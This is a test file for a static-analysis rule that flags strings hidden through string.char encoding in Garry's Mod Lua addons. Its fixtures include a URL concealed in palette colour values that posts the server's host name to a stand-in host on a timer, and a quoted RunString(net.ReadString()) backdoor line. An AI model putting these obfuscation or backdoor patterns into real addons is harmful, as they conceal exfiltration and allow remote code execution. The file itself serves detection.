// Valid and invalid cases of the `string_encoding` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './string_encoding.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('string_encoding', () => {
  it("a handbook's shipped pages, their code examples split into lines and joined again (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_book.lua': [
        'local function blocks(name)',
        '  local text = file.Read("book/pages/" .. name .. ".txt", "DATA") or ""',
        '  local out, current, inCode = {}, {}, false',
        '  for line in string.gmatch(text, "[^\\n]*") do',
        '    if line == "```" then',
        '      if inCode then out[#out + 1] = table.concat(current, "\\n") end',
        '      inCode, current = not inCode, {}',
        '    elseif inCode then current[#current + 1] = line end',
        '  end',
        '  return out',
        'end',
        'concommand.Add("book_open", function() PrintTable(blocks("security")) end)',
      ].join('\n'),
      'data_static/book/pages/security.txt':
        'Never do this:\n```\nnet.Receive("x", function() RunString(net.ReadString()) end)\n```\n',
    });
    expect(findings).toEqual([]);
  });
  it('string.char run hiding a URL', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local u = string.char(104,116,116,112,115,58,47,47,97,46,105,110,118,97,108,105,100)\nprint(u)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('UTF-8 glyph built with string.char', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'local star = string.char(226, 152, 133)\ndraw.SimpleText(star, "x", 0, 0)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a web address hidden in a palette's colour values", () => {
    const findings = check(rule, {
      'lua/autorun/sh_theme.lua': [
        'Theme = { Embed = { Color(104, 116, 116), Color(112, 115, 58), Color(47, 47, 104), Color(111, 111, 107),',
        ' Color(115, 46, 101), Color(120, 97, 109), Color(112, 108, 101), Color(46, 105, 110),',
        ' Color(118, 97, 108), Color(105, 100, 0) } }',
        'function Theme.Pack(name)',
        ' local out = {}',
        ' for i, c in ipairs(Theme[name]) do out[i] = string.char(c.r, c.g, c.b) end',
        ' return (string.gsub(table.concat(out), "%z", ""))',
        'end',
        'local relay = Theme.Pack("Embed")',
        'timer.Create("relay", 60, 0, function() http.Post(relay, { host = GetHostName() }) end)',
      ].join('\n'),
    });
    expect(findings.some((f) => f.decoded?.includes('https://hooks.example.invalid'))).toBe(true);
  });
  it('a palette of colours that is only drawn', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_theme.lua': [
        'local palette = { Color(46, 204, 113), Color(231, 76, 60), Color(52, 152, 219) }',
        'hook.Add("HUDPaint", "theme", function()',
        ' for i, c in ipairs(palette) do surface.SetDrawColor(c.r, c.g, c.b) surface.DrawRect(i * 20, 10, 16, 16) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
});
